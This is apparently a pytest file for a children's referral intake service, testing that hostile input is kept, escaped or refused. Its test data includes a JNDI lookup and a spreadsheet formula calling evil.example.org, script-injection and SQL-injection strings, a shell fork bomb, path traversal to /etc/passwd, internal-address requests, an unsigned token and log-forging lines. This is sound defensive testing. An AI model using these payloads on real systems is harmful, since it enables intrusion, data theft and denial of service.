"""What people and programs send by mistake or by malice: never a 500, never lost, never said back, never obeyed."""

import gzip
import json
import re
import socket
from functools import cache
from html import unescape
from pathlib import Path

import pytest
import yaml
from tests.referral_intake.test_fhir import message as fhir_message
from tests.referral_intake.test_forms import WRONG, with_value

from frontdoor.problems import Problem
from frontdoor.testing import Stage
from referral_intake import handlers
from referral_intake.app import service
from referral_intake.commands import ReferralForm

# --- on the page, as in the API ---------------------------------------------------------------------------------------

ASKED_ON = {
    "child__given_name": ("name", "child.given_name"),
    "concern": ("concern", "concern"),
    "child__nhs_number": ("health", "child.nhs_number"),
    "child__upn": ("health", "child.upn"),
    "child__postcode": ("home", "child.postcode"),
    "child__date_of_birth": ("birth", "child.date_of_birth"),
    "consent__on": ("consent", "consent.on"),
    "concern_raised_on": ("concern", "concern_raised_on"),
    "contacts__0__phone": ("reach-0", "contacts.0.phone"),
    "contacts__0__email": ("reach-0", "contacts.0.email"),
    "contacts__0__relationship": ("person-0", "contacts.0.relationship"),
    "contacts__0__channel": ("reach-0", "contacts.0.channel"),
    "needs__0__code": ("needs", "needs"),
    "support": ("support", "support"),
}
"""Where a person types what the API takes under this path."""
NOT_TYPED = {
    "a number that is a number": "a page sends texts alone",
    "a list of 101": "no page has a hundred boxes",
    "digits without hyphens": "a page has a box each for day, month and year",
    "a concern 41 weeks before birth": "it needs the answer of another page: said at the check",
}
TYPED = {
    name: case
    for name, case in WRONG.items()
    if case[0] in ASKED_ON and name not in NOT_TYPED and case[1] not in ([], "")
}
"""Whatever of the API's table a person could type."""


@pytest.fixture(scope="module")
def page(shared_intake):
    """A form that has been begun, with one person to tell."""
    client = shared_intake.stage.as_person("senco")
    form = client.post("/refer").headers["location"]
    client.post(f"{form}/people", data={"add": "yes"})
    return client, form


@pytest.mark.parametrize("name", TYPED)
def test_what_is_wrong_on_a_page_is_said_there_and_what_was_typed_is_kept(page, name):
    client, form = page
    path, value, sentence = TYPED[name]
    slug, field = ASKED_ON[path]
    typed = as_typed(field, value)
    answer = client.post(f"{form}/{slug}", data=typed)
    said = unescape(answer.text)
    assert answer.status_code == 422, name
    assert "There is a problem" in said
    if not field.endswith(("_on", "date_of_birth", ".on")) and sentence not in {"must be one of", "small letters"}:
        assert sentence in said or sentence.replace("Given", "First").lower() in said.lower() or "Enter" in sentence
    boxes = [text for text in typed.values() if isinstance(text, str) and text.isprintable() and text.strip()]
    again = unescape(client.get(f"{form}/{slug}").text)
    assert all(text in again for text in boxes if field not in {"needs", "support", "contacts.0.channel"})


def as_typed(field, value):
    if field.endswith(("_on", "date_of_birth", ".on")):
        year, month, day = [*str(value).split("-"), "", ""][:3]
        return {f"{field}-day": day, f"{field}-month": month, f"{field}-year": year}
    return {field: value, "contacts.0.language": "en"}


LITERAL = {
    "a template": "{{7*7}}",
    "a format": "%s ${7*7} ((name))",
    "a lookup": "${jndi:ldap://evil.example.org/a}",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a link that runs": "javascript:alert(1)",
    "a query": "' OR 1=1--",
    "a formula": '=HYPERLINK("http://evil.example.org")',
    "a fork bomb": ":(){ :|:& };:",
}


@pytest.mark.parametrize("name", LITERAL)
def test_what_looks_like_code_is_kept_and_shown_as_it_was_typed(shared_intake, name):
    typed = LITERAL[name]
    reference = shared_intake.sent(shared_intake.form(child__given_name=typed, concern=typed))
    page = shared_intake.get(f"/referrals/{reference}").text
    assert shared_intake.get(f"/api/referrals/{reference}").json()["concern"] == typed
    assert typed in unescape(page)
    assert "<script>alert(1)" not in page
    assert "default-src 'self'" in shared_intake.get("/").headers["content-security-policy"]


@pytest.mark.parametrize("name", [*LITERAL.values(), "%%%%", "____", "(a+)+$", "\\"])
def test_a_search_takes_every_character_as_it_is(fresh_intake, name):
    fresh_intake.sent()
    assert fresh_intake.post("/api/search", {"name": name}, "health-triager").json() == {"children": []}


def test_log_lines_are_not_written_by_who_refers(shared_intake, capsys):
    shared_intake.send(shared_intake.form(concern="a\r\nINFO admin logged in"))
    shared_intake.send(shared_intake.form(child__given_name="a\r\nINFO admin logged in"))
    said = capsys.readouterr()
    assert "admin logged in" not in said.out + said.err


# --- identifiers ------------------------------------------------------------------------------------------------------


def test_a_temporary_upn_is_taken_and_marked(shared_intake):
    reference = shared_intake.sent(shared_intake.form(child__upn="H88299032610A"))
    assert "temporary_upn" in shared_intake.get(f"/api/referrals/{reference}").json()["flags"]


@pytest.mark.parametrize(
    ("given", "flagged"), [("Анна", False), ("Аnna", True), ("Zoë", False), ("Øystein Łukasz", False)]
)
def test_a_name_that_only_looks_like_another_is_taken_and_marked(shared_intake, given, flagged):
    reference = shared_intake.sent(shared_intake.form(child__given_name=given))
    assert ("mixed_scripts" in shared_intake.get(f"/api/referrals/{reference}").json()["flags"]) is flagged


def test_a_test_number_is_refused_where_real_children_are_referred(tmp_path, shared_intake):
    stage = Stage(service, tmp_path)
    object.__setattr__(stage.parts, "demo", False)
    command = ReferralForm.model_validate_json(json.dumps(shared_intake.form()))
    handlers.prepare_child(stage.parts, command, "C-22222222")
    with stage.work("senco") as work, pytest.raises(Problem) as refused:
        handlers.receive_referral(work, command, "C-22222222")
    assert refused.value.errors[0].field == "child.nhs_number"


def test_the_demonstration_takes_every_number_that_the_contract_takes(shared_intake):
    reference = shared_intake.sent(shared_intake.form(child__nhs_number="943 476 5919"))
    assert shared_intake.get(f"/api/referrals/{reference}").json()["child"]["nhs_number"] == "9434765919"


@pytest.mark.parametrize("day", ["١٤", "１４", "²", "Ⅷ", "1e1", "0x0E", " ", "+14", "1_4"])
def test_a_day_in_other_digits_is_no_day(page, day):
    client, form = page
    typed = {"child.date_of_birth-day": day, "child.date_of_birth-month": "3", "child.date_of_birth-year": "2021"}
    answer = client.post(f"{form}/birth", data=typed)
    assert answer.status_code == 422
    assert day.strip() in unescape(answer.text)


def test_an_email_address_that_is_too_long_is_refused(shared_intake):
    long = f"{'a' * 60}@{'b' * 60}.{'c' * 60}.{'d' * 60}.{'e' * 60}.example.org"
    answer = shared_intake.send(shared_intake.form(contacts__0__channel="email", contacts__0__email=long))
    assert [error["field"] for error in answer.json()["errors"]] == ["contacts.0.email"]


# --- HTTP -------------------------------------------------------------------------------------------------------------


def test_a_packed_body_is_refused(shared_intake):
    client = shared_intake.stage.as_person("senco")
    bomb = gzip.compress(json.dumps(shared_intake.form()).encode())
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    assert client.post("/api/referrals", content=bomb, headers=headers).status_code == 415


@pytest.mark.parametrize("path", [
    "//api/referrals/x", "/api//referrals/R222-22222", "/api/referrals/%2e%2e/%2e%2e/etc/passwd",
    "/api/referrals/..%2f..%2fetc", "/referrals/R222-22222;admin=1", "/api/referrals/R222-22222%00",
])  # fmt: skip
def test_tricks_with_the_address_lead_nowhere(shared_intake, path):
    answer = shared_intake.stage.as_person("gp").get(path)
    assert answer.status_code in {404, 405}


@pytest.mark.parametrize("size", [501, 100_000])
def test_a_page_with_too_many_fields_is_refused_whole(shared_intake, size):
    client = shared_intake.stage.as_person("senco")
    form = client.post("/refer").headers["location"]
    assert client.post(f"{form}/name", data={f"k{at}": "1" for at in range(size)}).status_code in {400, 413}


@pytest.mark.parametrize(
    "header", ["Bearer demo-", "Bearer demo-nobody", "Bearer eyJhbGciOiJub25lIn0.e30.", "Basic YTpi"]
)
def test_whoever_cannot_be_known_is_nobody(shared_intake, header):
    client = shared_intake.stage.as_person(None)
    answer = client.post("/api/referrals", json=shared_intake.form(), headers={"Authorization": header})
    assert (answer.status_code, answer.json()["code"]) == (401, "not_signed_in")


@pytest.mark.parametrize("cookie", ["senco", "eyJwZXJzb24iOiJzZW5jbyJ9", "a.b.c", "\xff"])
def test_a_session_that_we_did_not_sign_is_none(shared_intake, cookie):
    signed = shared_intake.stage.as_person(None).post("/sign-in", data={"person": "senco", "next": "/"})
    name = signed.headers["set-cookie"].partition("=")[0]
    answer = shared_intake.stage.as_person(None).get(
        "/api/referrals", headers={"Cookie": f"{name}={cookie}".encode("latin-1")}
    )
    assert answer.status_code == 401


def test_nothing_that_is_refused_says_what_was_sent(shared_intake):
    canary = "ZZCANARY"
    for name, (path, _, _) in WRONG.items():
        form = shared_intake.form()
        form["child"].pop("nhs_number", None)
        answer = shared_intake.send(with_value(form, path, {"odd": canary}))
        assert answer.status_code in {400, 422}, name
        assert canary not in answer.text, name


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "C:\\x\\y.txt", "x" * 500 + ".txt", "gpj\u202exe.txt", "a\0b.txt"]
)
def test_a_file_is_kept_under_our_own_name_whatever_it_is_called(shared_intake, name):
    client = shared_intake.stage.as_person("senco")
    answer = client.post("/api/uploads", files={"file": (name, b"Report.")})
    assert answer.status_code == 201
    kept = {path.name for path in (shared_intake.stage.parts.folder / "uploads").iterdir()}
    assert answer.json()["upload"] in kept
    assert all(re.fullmatch(r"U-[0-9A-Z]{8}", one) for one in kept)


@pytest.mark.parametrize("data", [
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    b"<svg onload=alert(1)>",
    b"\x00\x01\x02",
    b"GIF89a\x01\x00",
    b"RIFF\x00\x00\x00\x00WEBP",
])  # fmt: skip
def test_a_file_of_another_kind_is_refused_whatever_it_is_called(shared_intake, data):
    client = shared_intake.stage.as_person("senco")
    answer = client.post("/api/uploads", files={"file": ("report.pdf", data, "application/pdf")})
    assert answer.status_code == 422


def test_a_file_that_the_scanner_finds_something_in_is_refused_like_one_that_cannot_be_checked(tmp_path):
    stage = Stage(service, tmp_path)
    object.__setattr__(stage.parts, "scan", lambda data: b"virus" not in data)
    send = lambda data: stage.as_person("senco").post("/api/uploads", files={"file": ("a.txt", data)})  # noqa: E731
    assert send(b"a virus").json()["code"] == "unsafe_file"
    assert send(b"a report").status_code == 201


@pytest.mark.parametrize("condition", ["*", '"0"', 'W/"1"', "\t", "x" * 5000])
@pytest.mark.parametrize("header", ["If-Match", "If-None-Match", "If-Unmodified-Since"])
def test_a_condition_in_a_header_neither_lets_anything_through_nor_stops_it(shared_intake, header, condition):
    reference = shared_intake.sent()
    path, headers = f"/api/referrals/{reference}/withdraw", {header: condition}
    stranger, sender = (shared_intake.stage.as_person(person) for person in ("other-senco", "senco"))
    assert stranger.post(path, json={"reason": "x"}, headers=headers).status_code == 404
    assert sender.post(path, json={"reason": "x"}, headers=headers).status_code == 200
    assert sender.post(path, json={"reason": "x"}, headers=headers).status_code == 409


def test_no_parameter_makes_a_page_longer_or_sorts_it_otherwise(shared_intake):
    shared_intake.sent()
    plain = shared_intake.get("/api/referrals?mine=true").json()
    asked = "limit=1000000000&page=-1&offset=-5&sort=password&order=desc;drop&fields=*&is_admin=true"
    assert shared_intake.get(f"/api/referrals?mine=true&{asked}").json() == plain


def test_nothing_that_was_typed_leaves_as_a_spreadsheet(shared_intake):
    services = (Path(__file__).parents[2] / "services").rglob("*.py")
    giving = [path.name for path in services if "text/csv" in path.read_text()]
    assert giving == ["bulk_pages.py"], "Before what was typed goes into a CSV, a formula in it gets a quotation mark"
    senco = shared_intake.stage.as_person("senco")
    assert senco.get("/refer/bulk/template.csv").text.count("\n") == 1


@pytest.mark.parametrize(
    "address",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:{port}/",
        "http://[::1]:{port}/",
        "http://0x7f000001:{port}/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:{port}/_x",
    ],
)
def test_nobody_makes_us_call_an_address(shared_intake, address):
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.settimeout(0.02)
        said = address.format(port=listening.getsockname()[1])
        message = fhir_message(MessageHeader__source={"endpoint": said})
        assert shared_intake.post("/api/fhir/$process-message", message, "gp").status_code in {200, 201}
        shared_intake.sent(shared_intake.form(concern=said, child__setting=said[:60], referrer__organisation=said[:60]))
        headers = {"Origin": "http://testserver", "Referer": said, "X-Forwarded-Host": said, "Forwarded": f"for={said}"}
        shared_intake.stage.as_person("senco").get("/", headers=headers)
        with pytest.raises(TimeoutError):
            listening.accept()


# --- all of them ------------------------------------------------------------------------------------------------------

TABLE = yaml.safe_load((Path(__file__).parent / "bad_inputs.yaml").read_text())


@cache
def names_in(file):
    return set(re.findall(r"def (test_\w+)", (Path(__file__).parents[1] / file).read_text()))


def test_each_of_the_74_kinds_of_bad_input_is_proved_by_tests_that_are_there():
    assert [row["number"] for row in TABLE] == list(range(1, 75))
    missing = []
    for row in TABLE:
        assert row["answer"], row
        assert row["proved_by"] or row.get("not_here"), row
        for test in row["proved_by"]:
            file, _, name = test.partition("::")
            missing += [] if name in names_in(file) else [f"{row['number']}: {test}"]
    assert not missing
